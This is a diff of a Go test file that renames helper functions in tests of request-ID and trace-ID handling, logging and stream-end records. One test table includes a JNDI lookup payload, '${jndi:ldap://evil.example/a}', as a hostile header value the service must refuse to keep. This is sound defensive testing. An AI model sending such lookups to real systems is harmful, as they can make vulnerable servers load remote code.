@@ -26,7 +26,7 @@ func TestRequestIDs(t *testing.T) {
 		"${jndi:ldap://evil.example/a}": false,
 		"sk_" + strings.Repeat("ABCDEFGHIJKLMNOPQRST", 5): true, // whatever it is, it is the caller's own
 	} {
-		r := s.stranger().call("GET", "/v1/sessions/current", nil, header("X-Request-Id", id))
+		r := s.anonymous().call("GET", "/v1/sessions/current", nil, header("X-Request-Id", id))
 		p := r.refused(http.StatusUnauthorized, "unauthenticated")
 		if told := r.Header.Get("X-Request-Id"); (told == id) != kept || told == "" || p.RequestID != told {
 			t.Errorf("the ID %q comes back as %q, and in the problem as %q", id, told, p.RequestID)
@@ -38,7 +38,7 @@ func TestRequestIDs(t *testing.T) {
 			t.Errorf("the log has %q", id)
 		}
 	}
-	r := s.stranger().call("GET", "/v1/sessions/current", nil, func(r *http.Request) {
+	r := s.anonymous().call("GET", "/v1/sessions/current", nil, func(r *http.Request) {
 		r.Header["X-Request-Id"] = []string{"one", "two"}
 	})
 	if told := r.Header.Values("X-Request-Id"); len(told) != 1 || told[0] == "one" || told[0] == "two" {
@@ -70,7 +70,7 @@ func TestTraceIDs(t *testing.T) {
 		{"00-" + trace[:30] + "zz-" + parent + "-01", false},
 	} {
 		id := strings.Repeat("i", i+1)
-		s.stranger().call("GET", "/v1/sessions/current", nil, header("Traceparent", c.traceparent), header("X-Request-Id", id))
+		s.anonymous().call("GET", "/v1/sessions/current", nil, header("Traceparent", c.traceparent), header("X-Request-Id", id))
 		if got := s.log.contains(`"requestID":"` + id + `","traceID":"` + trace + `"}`); got != c.known {
 			t.Errorf("%q: the log has the trace: %t", c.traceparent, got)
 		}
@@ -80,13 +80,13 @@ func TestTraceIDs(t *testing.T) {
 	}
 }
 
-// TestEndsOfStreamsNameTheirRequest: how long a stream lasted and why it ended is found by the ID that opened it.
-func TestEndsOfStreamsNameTheirRequest(t *testing.T) {
+// TestStreamEndLogsRequestID: how long a stream lasted and why it ended is found by the ID that opened it.
+func TestStreamEndLogsRequestID(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
 	alice := s.login("alice")
 	stream, _ := alice.listen(header("X-Request-Id", "of-the-stream"))
-	stream.hangUp()
+	stream.disconnect()
 	want := `"session":"` + string(alice.SessionID) + `","requestID":"of-the-stream"}`
 	eventually(t, "the log tells of the end", func() bool {
 		return s.log.contains(want) && s.log.contains(`"msg":"stream ended","reason":"clientGone"`)
